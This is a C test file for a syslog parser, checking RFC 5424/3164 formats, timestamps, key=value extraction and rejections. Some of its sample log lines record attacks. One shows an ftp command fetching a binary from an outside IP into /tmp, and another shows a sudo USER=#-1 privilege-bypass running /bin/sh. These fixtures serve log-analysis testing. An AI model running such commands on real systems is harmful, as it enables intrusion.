/*
 * test_parse_syslog.c - syslog: RFC 5424 with structured data and BOM, RFC
 * 3164 with and without PRI, rsyslog ISO timestamps, NetScaler's priority
 * text, the year rules, key=value extraction, services, rejections, no
 * allocation per event.
 */
#include "tt.h"

#include <time.h>

#include "trawl/arena.h"
#include "trawl/parse.h"

#define NF 96

typedef struct sl {
    tr_parser *p;
    tr_arena *a;
    tr_field f[NF];
    tr_event ev;
} sl;

static bool sl_open(sl *s, int year)
{
    memset(s, 0, sizeof(*s));
    tr_parse_opts o = { .default_year = year };
    if (tr_parser_new(TR_FMT_SYSLOG, &o, &s->p) != TR_OK)
        return false;
    s->a = tr_arena_new(0, 0);
    tr_event_init(&s->ev, s->f, NF, s->a);
    return s->a != NULL;
}

static void sl_close(sl *s)
{
    tr_parser_free(s->p);
    tr_arena_free(s->a);
}

static tr_err sl_parse(sl *s, const char *line)
{
    tr_arena_reset(s->a);
    tr_event_reset(&s->ev);
    return tr_parser_parse(s->p, tr_str_c(line), &s->ev);
}

static const char *val(const sl *s, const char *name)
{
    static char buf[4][512];
    static int k;
    const tr_field *f = tr_event_find(&s->ev, tr_str_c(name));
    if (!f)
        return "<absent>";
    if (f->kind == TR_VNULL)
        return "<null>";
    char *b = buf[k++ & 3];
    snprintf(b, 512, "%.*s", (int)f->value.n, f->value.p);
    return b;
}

static const char *service(const sl *s)
{
    static char b[64];
    snprintf(b, sizeof(b), "%.*s", (int)s->ev.logsource.service.n, s->ev.logsource.service.p);
    return b;
}

/* 2020-mm-dd hh:mm:ss UTC in ns */
static int64_t at(int y, int mo, int d, int h, int mi, int sec)
{
    struct tm tm = { .tm_year = y - 1900, .tm_mon = mo - 1, .tm_mday = d, .tm_hour = h,
                     .tm_min = mi, .tm_sec = sec };
    return (int64_t)timegm(&tm) * 1000000000;
}

TEST(parse_syslog_rfc3164_with_pri)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    CHECK_EQ(sl_parse(&s, "<38>Jan 20 08:14:02 web01 sshd[1234]: Accepted password for root "
                          "from 66.42.98.220 port 51622 ssh2"),
             TR_OK);
    CHECK_EQ(s.ev.ts, at(2020, 1, 20, 8, 14, 2));
    CHECK_STR(val(&s, "facility"), "auth");
    CHECK_STR(val(&s, "severity"), "info");
    CHECK_STR(val(&s, "host"), "web01");
    CHECK_STR(val(&s, "hostname"), "web01");
    CHECK_STR(val(&s, "program"), "sshd");
    CHECK_STR(val(&s, "app_name"), "sshd");
    CHECK_STR(val(&s, "pid"), "1234");
    CHECK_EQ(tr_event_find(&s.ev, TR_STR("pid"))->kind, TR_VNUM);
    CHECK_STR(val(&s, "message"), "Accepted password for root from 66.42.98.220 port 51622 ssh2");
    CHECK_SLICE(s.ev.logsource.product, "linux");
    CHECK_STR(service(&s), "sshd");
    sl_close(&s);
}

TEST(parse_syslog_rfc3164_without_pri_and_odd_tags)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 web01 CRON[999]: (root) CMD (run-parts "
                          "/etc/cron.hourly)"),
             TR_OK);
    CHECK_EQ(s.ev.ts, at(2020, 1, 2, 3, 4, 5));
    CHECK_STR(val(&s, "facility"), "<absent>");
    CHECK_STR(val(&s, "program"), "CRON");
    CHECK_STR(service(&s), "cron");
    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 web01 kernel: [1.5] usb 1-1: new device"), TR_OK);
    CHECK_STR(val(&s, "program"), "kernel");
    CHECK_STR(val(&s, "pid"), "<absent>");
    CHECK_STR(val(&s, "message"), "[1.5] usb 1-1: new device");
    CHECK_STR(service(&s), "syslog");
    /* no hostname: the first word is the tag */
    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 su[77]: pam_unix(su:session): session opened"), TR_OK);
    CHECK_STR(val(&s, "host"), "<absent>");
    CHECK_STR(val(&s, "program"), "su");
    CHECK_STR(service(&s), "auth");
    /* no tag at all */
    CHECK_EQ(sl_parse(&s, "Jan  2 03:04:05 web01 last message repeated 3 times"), TR_OK);
    CHECK_STR(val(&s, "program"), "<absent>");
    CHECK_STR(val(&s, "message"), "last message repeated 3 times");
    /* an unknown program under the authpriv facility is auth */
    CHECK_EQ(sl_parse(&s, "<86>Jan  2 03:04:05 web01 myauthd: ok"), TR_OK);
    CHECK_STR(service(&s), "auth");
    sl_close(&s);
}

TEST(parse_syslog_netscaler_shell_command)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    CHECK_EQ(sl_parse(&s, "Jan 20 08:16:30 <local7.notice> ns bash[2567]: nobody on /dev/pts/0 "
                          "shell_command=\"/usr/bin/ftp -o /tmp/bsd "
                          "ftp://test:x@66.42.98.220/bsd\""),
             TR_OK);
    CHECK_STR(val(&s, "facility"), "local7");
    CHECK_STR(val(&s, "severity"), "notice");
    CHECK_STR(val(&s, "host"), "ns");
    CHECK_STR(val(&s, "program"), "bash");
    CHECK_STR(val(&s, "shell_command"), "/usr/bin/ftp -o /tmp/bsd ftp://test:x@66.42.98.220/bsd");
    sl_close(&s);
}

TEST(parse_syslog_sudo_and_bracketed_pairs)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    CHECK_EQ(sl_parse(&s, "2020-01-20T08:17:01.123456+00:00 web01 sudo:    alice : TTY=pts/0 ; "
                          "PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c id"),
             TR_OK);
    CHECK_EQ(s.ev.ts, at(2020, 1, 20, 8, 17, 1) + 123456000);
    CHECK_STR(service(&s), "sudo");
    CHECK_STR(val(&s, "USER"), "#-1");
    CHECK_STR(val(&s, "COMMAND"), "/bin/sh -c id");
    CHECK_STR(val(&s, "message"),
              "alice : TTY=pts/0 ; PWD=/home/alice ; USER=#-1 ; COMMAND=/bin/sh -c id");
    CHECK_EQ(sl_parse(&s, "Jan 20 08:18:00 web01 pkexec[4242]: alice: Executing command "
                          "[USER=root] [TTY=/dev/pts/0] [COMMAND=/usr/bin/ls -la]"),
             TR_OK);
    CHECK_STR(val(&s, "USER"), "root");
    CHECK_STR(val(&s, "COMMAND"), "/usr/bin/ls -la");
    CHECK_STR(service(&s), "auth");
    /* generic pairs: quotes with escapes, single quotes, trailing comma, reserved names */
    CHECK_EQ(sl_parse(&s, "Jan 20 08:18:00 web01 app: a=\"x \\\"y\\\"\" b='p q' c=3, pid=9 "
                          "host=evil 1bad=no d="),
             TR_OK);
    CHECK_STR(val(&s, "a"), "x \"y\"");
    CHECK_STR(val(&s, "b"), "p q");
    CHECK_STR(val(&s, "c"), "3");
    CHECK_STR(val(&s, "host"), "web01");
    CHECK_STR(val(&s, "pid"), "<absent>");
    CHECK_STR(val(&s, "1bad"), "<absent>");
    CHECK_STR(val(&s, "d"), "");
    sl_close(&s);
}

TEST(parse_syslog_rfc5424_structured_data_and_bom)
{
    sl s;
    CHECK(sl_open(&s, 0));
    CHECK_EQ(sl_parse(&s, "<165>1 2003-10-11T22:14:15.003Z mymachine.example.com evntslog - ID47 "
                          "[exampleSDID@32473 iut=\"3\" eventSource=\"Application\" "
                          "eventID=\"1011\"]"
                          "[examplePriority@32473 class=\"high\" note=\"a \\\"q\\\" \\]\"] "
                          "\xEF\xBB\xBF" "An application event log entry"),
             TR_OK);
    CHECK_EQ(s.ev.ts, at(2003, 10, 11, 22, 14, 15) + 3000000);
    CHECK_STR(val(&s, "facility"), "local4");
    CHECK_STR(val(&s, "severity"), "notice");
    CHECK_STR(val(&s, "host"), "mymachine.example.com");
    CHECK_STR(val(&s, "program"), "evntslog");
    CHECK_STR(val(&s, "pid"), "<absent>");
    CHECK_STR(val(&s, "msgid"), "ID47");
    CHECK_STR(val(&s, "sd.exampleSDID@32473.eventSource"), "Application");
    CHECK_STR(val(&s, "sd.examplePriority@32473.note"), "a \"q\" ]");
    CHECK_STR(val(&s, "message"), "An application event log entry");
    CHECK_STR(service(&s), "syslog");
    /* all NILVALUEs and no message */
    CHECK_EQ(sl_parse(&s, "<13>1 2003-10-11T22:14:15Z - - - - -"), TR_OK);
    CHECK_STR(val(&s, "host"), "<absent>");
    CHECK_STR(val(&s, "message"), "");
    /* malformed structured data stays in the message */
    CHECK_EQ(sl_parse(&s, "<13>1 2003-10-11T22:14:15Z h a 1 - [broken k=v] text"), TR_OK);
    CHECK_STR(val(&s, "message"), "[broken k=v] text");
    /* NILVALUE timestamp */
    CHECK_EQ(sl_parse(&s, "<13>1 - h a 1 - - text"), TR_OK);
    CHECK_EQ(s.ev.ts, TR_TS_NONE);
    sl_close(&s);
}

TEST(parse_syslog_year_rollover_with_default_year)
{
    sl s;
    CHECK(sl_open(&s, 2019));
    CHECK_EQ(sl_parse(&s, "Dec 31 23:59:58 h a: x"), TR_OK);
    CHECK_EQ(s.ev.ts, at(2019, 12, 31, 23, 59, 58));
    CHECK_EQ(sl_parse(&s, "Jan  1 00:00:01 h a: x"), TR_OK);
    CHECK_EQ(s.ev.ts, at(2020, 1, 1, 0, 0, 1));
    CHECK_EQ(sl_parse(&s, "Dec 31 23:59:59 h a: late"), TR_OK); /* a straggler */
    CHECK_EQ(s.ev.ts, at(2019, 12, 31, 23, 59, 59));
    CHECK_EQ(sl_parse(&s, "Feb 29 12:00:00 h a: leap"), TR_OK);
    CHECK_EQ(s.ev.ts, at(2020, 2, 29, 12, 0, 0));
    sl_close(&s);
}

TEST(parse_syslog_year_defaults_to_now)
{
    sl s;
    CHECK(sl_open(&s, 0));
    time_t now = time(NULL);
    struct tm tm;
    gmtime_r(&now, &tm);
    /* 1 January is never in the future: this year */
    CHECK_EQ(sl_parse(&s, "Jan  1 00:00:00 h a: x"), TR_OK);
    CHECK_EQ(s.ev.ts, at(tm.tm_year + 1900, 1, 1, 0, 0, 0));
    /* a date more than two days ahead is last year's */
    time_t later = now + 5 * 86400;
    struct tm lt;
    gmtime_r(&later, &lt);
    char line[64];
    static const char *const mon[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                       "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
    snprintf(line, sizeof(line), "%s %2d 00:00:00 h a: x", mon[lt.tm_mon], lt.tm_mday);
    CHECK_EQ(sl_parse(&s, line), TR_OK);
    int want_year = lt.tm_year + 1900 == tm.tm_year + 1900 ? tm.tm_year + 1900 - 1
                                                           : tm.tm_year + 1900;
    if (!(lt.tm_mon == 1 && lt.tm_mday == 29)) /* no 29 February last year */
        CHECK_EQ(s.ev.ts, at(want_year, lt.tm_mon + 1, lt.tm_mday, 0, 0, 0));
    sl_close(&s);
}

TEST(parse_syslog_rejections)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    CHECK_EQ(sl_parse(&s, "nothing syslog about this line"), TR_EPARSE);
    CHECK(strstr(tr_parser_errmsg(s.p), "no <PRI>"));
    CHECK_EQ(sl_parse(&s, ""), TR_EPARSE);
    CHECK_EQ(sl_parse(&s, "<13>1 not-a-time host app - - - msg"), TR_EPARSE);
    CHECK(strstr(tr_parser_errmsg(s.p), "TIMESTAMP"));
    CHECK_EQ(sl_parse(&s, "<13>1 2003-10-11T22:14:15Z host app"), TR_EPARSE);
    CHECK_EQ(sl_parse(&s, "Feb 30 08:00:00 web01 app: impossible date"), TR_EPARSE);
    CHECK_EQ(sl_parse(&s, "2020-13-20T08:17:01Z web01 app: x"), TR_EPARSE);
    /* a PRI out of range is no PRI */
    CHECK_EQ(sl_parse(&s, "<999>text"), TR_EPARSE);
    /* a PRI without a timestamp is a message */
    CHECK_EQ(sl_parse(&s, "<13>no timestamp"), TR_OK);
    CHECK_STR(val(&s, "message"), "no timestamp");
    CHECK_EQ(s.ev.ts, TR_TS_NONE);
    sl_close(&s);
}

TEST(parse_syslog_no_allocation_per_event)
{
    sl s;
    CHECK(sl_open(&s, 2020));
    const char *lines[] = {
        "<86>1 2020-01-20T08:18:00.003Z web01 pkexec 4242 - [m@1 a=\"\\\"x\\\"\"] [USER=root] x",
        "Jan 20 08:16:30 <local7.notice> ns bash[2567]: shell_command=\"a \\\"b\\\"\" k=v",
    };
    for (size_t i = 0; i < 2; i++)
        CHECK_EQ(sl_parse(&s, lines[i]), TR_OK);
    uint64_t before = tr_alloc_count();
    for (int i = 0; i < 1000; i++)
        CHECK_EQ(sl_parse(&s, lines[i & 1]), TR_OK);
    CHECK_EQ(tr_alloc_count(), before);
    sl_close(&s);
}
